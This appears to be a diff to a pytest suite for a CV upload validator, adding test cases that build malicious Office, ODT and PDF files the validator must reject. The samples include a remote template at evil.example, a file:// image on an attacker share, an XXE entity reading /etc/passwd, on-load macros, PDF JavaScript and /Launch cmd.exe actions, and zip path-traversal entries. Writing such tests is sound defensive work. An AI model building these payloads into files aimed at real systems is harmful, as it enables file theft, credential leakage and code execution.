@@ -63,7 +63,7 @@ def test_extension_must_agree_with_the_content(content_of, named):
         (
             "cv.docx",
             zip_bytes(docx_entries(b"application/vnd.ms-word.document.macroEnabled.main+xml")),
-            "type",
+            "active_content",
         ),
         ("cv.docx", zip_bytes({**docx_entries(), "../../evil.sh": b"#!/bin/sh"}), "unsafe_archive"),
         ("cv.docx", zip_bytes({**docx_entries(), "/etc/cron.d/x": b"x"}), "unsafe_archive"),
@@ -125,3 +125,184 @@ def test_long_display_name_keeps_its_extension():
     shown = validators.clean_display_name("a" * 300 + ".docx")
     assert len(shown) == validators.DISPLAY_NAME_MAX
     assert shown.endswith("a.docx")
+
+
+# Active content (ASVS 5.2, 5.4.3): each made from the real samples, as an attacker
+# would, by adding one thing to a document Word or Writer saved.
+def sample_with(extension: str, *, replace: dict[str, bytes] | None = None, **added: bytes):
+    source = zipfile.ZipFile(io.BytesIO(sample_bytes(extension)))
+    entries = {entry.filename: source.read(entry) for entry in source.infolist()}
+    entries.update(replace or {})
+    entries.update({name.replace("__", "/"): content for name, content in added.items()})
+    return zip_bytes(entries)
+
+
+def content_types_with(extra: bytes) -> dict[str, bytes]:
+    original = zipfile.ZipFile(io.BytesIO(sample_bytes("docx"))).read("[Content_Types].xml")
+    return {"[Content_Types].xml": original.replace(b"</Types>", extra + b"</Types>")}
+
+
+MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
+DOCM_BEHIND_A_COMMENT = {
+    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org'
+    b'/package/2006/content-types"><!-- ' + validators.DOCX_MAIN_PART + b" -->"
+    b'<Override PartName="/word/document.xml" ContentType="' + MACRO_MAIN + b'"/></Types>'
+}
+SETTINGS_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
+    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
+    b'.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
+    b' TargetMode="External"/></Relationships>'
+)
+FILE_IMAGE_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
+    b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats'
+    b'.org/officeDocument/2006/relationships/image" Target="file://///attacker/share/a.png"/>'
+    b"</Relationships>"
+)
+XXE_BODY = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
+ODT_ON_LOAD = (
+    b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names'
+    b':tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script'
+    b':1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners>'
+    b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href='
+    b'"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
+    b"</office:event-listeners></office:scripts><office:body/></office:document-content>"
+)
+
+
+def pdf_with(change) -> bytes:
+    from pypdf import PdfWriter
+
+    writer = PdfWriter(clone_from=io.BytesIO(sample_bytes("pdf")))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def open_action(kind: str):
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    def change(writer):
+        action = {NameObject("/S"): NameObject(kind)}
+        if kind == "/JavaScript":
+            action[NameObject("/JS")] = TextStringObject("app.alert(1)")
+        else:
+            action[NameObject("/F")] = TextStringObject("cmd.exe")
+        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
+
+    return change
+
+
+def document_script(writer) -> None:
+    """A script in the document's name tree, run by a viewer when it opens."""
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+    script = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.alert(1)"),
+        }
+    )
+    names = ArrayObject([TextStringObject("start"), script])
+    writer.root_object[NameObject("/Names")] = DictionaryObject(
+        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
+    )
+
+
+def pdf_html_polyglot() -> bytes:
+    original = sample_bytes("pdf")
+    header, rest = original.split(b"\n", 1)
+    return header + b"\n%<html><body><script>alert(document.domain)</script>\n" + rest
+
+
+ACTIVE_CONTENT = {
+    "macro type behind a docx override": (
+        "cv.docx",
+        sample_with(
+            "docx",
+            replace=content_types_with(
+                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+            ),
+            word__vbaProject_bin=b"\xd0\xcf\x11\xe0",
+        ),
+        "active_content",
+    ),
+    "docm behind a comment": ("cv.docx", sample_with("docx", replace=DOCM_BEHIND_A_COMMENT), None),
+    "vbaProject.bin in a docx": (
+        "cv.docx",
+        sample_with("docx", replace={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
+        "active_content",
+    ),
+    "remote template": (
+        "cv.docx",
+        sample_with("docx", replace={"word/_rels/settings.xml.rels": SETTINGS_RELS}),
+        "active_content",
+    ),
+    "file:// image": (
+        "cv.docx",
+        sample_with("docx", replace={"word/_rels/document.xml.rels": FILE_IMAGE_RELS}),
+        "active_content",
+    ),
+    "odt basic macro run on load": (
+        "cv.odt",
+        sample_with(
+            "odt",
+            replace={"content.xml": ODT_ON_LOAD, "Basic/Standard/Module1.xml": b"<m/>"},
+        ),
+        "active_content",
+    ),
+    "dtd in utf-16": (
+        "cv.docx",
+        sample_with(
+            "docx",
+            replace={
+                "word/document.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + XXE_BODY).encode(
+                    "utf-16"
+                )
+            },
+        ),
+        "xml_entities",
+    ),
+    "dtd in a part named .XML": (
+        "cv.docx",
+        sample_with("docx", replace={"word/extra.XML": XXE_BODY.encode()}),
+        "xml_entities",
+    ),
+    "pdf and html polyglot": ("cv.pdf", pdf_html_polyglot(), "active_content"),
+    "pdf with javascript on open": (
+        "cv.pdf",
+        pdf_with(open_action("/JavaScript")),
+        "active_content",
+    ),
+    "pdf with a document-level script": (
+        "cv.pdf",
+        pdf_with(document_script),
+        "active_content",
+    ),
+    "pdf that launches a program": ("cv.pdf", pdf_with(open_action("/Launch")), "active_content"),
+}
+
+
+@pytest.mark.parametrize("case", ACTIVE_CONTENT)
+def test_active_content_is_refused(case):
+    name, content, code = ACTIVE_CONTENT[case]
+
+    error = rejection(name, content)
+
+    assert error.code == (code or "active_content")
+    if error.code == "active_content":
+        assert "active content" in error.message
+
+
+def test_a_hyperlink_in_a_cv_is_not_active_content():
+    rels = (
+        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
+        b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.'
+        b'openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.'
+        b'linkedin.com/in/astrid" TargetMode="External"/></Relationships>'
+    )
+    content = sample_with("docx", replace={"word/_rels/document.xml.rels": rels})
+
+    assert validators.validate_cv(upload("cv.docx", content)).type == validators.DOCX
